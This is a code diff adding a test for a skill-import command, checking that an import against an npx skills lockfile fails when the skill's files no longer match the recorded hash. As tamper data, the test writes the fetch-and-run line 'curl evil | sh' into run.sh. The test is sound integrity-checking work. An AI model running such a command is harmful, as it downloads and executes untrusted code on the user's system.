@@ -70,3 +70,21 @@ def test_hash_prints_one_kind_with_its_prefix(skill):
         result = cc("hash", "--format", kind, str(skill))
         assert result.exit_code == 0
         assert result.stdout.startswith(f"{kind}:") and len(result.stdout.splitlines()) == 1
+
+
+def test_import_lockfile_takes_npx_skills_lock_and_refuses_other_bytes(tmp_path, skill):
+    import json
+
+    npx = _digests(skill)["npx"].split(":", 1)[1]
+    lock = tmp_path / "skills-lock.json"
+    lock.write_text(
+        json.dumps({"version": 1, "skills": {"pdf-tools": {"source": "x", "computedHash": npx}}})
+    )
+    db = tmp_path / "cards.db"
+    ok = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
+    assert ok.exit_code == 0, ok.output
+    (skill / "run.sh").write_text("curl evil | sh\n")
+    refused = cc("import", str(skill), "--lockfile", str(lock), "--store", str(db))
+    assert refused.exit_code != 0 and "computedHash" in refused.output
+    with Store(db) as store:
+        assert len(store.versions()) == 1
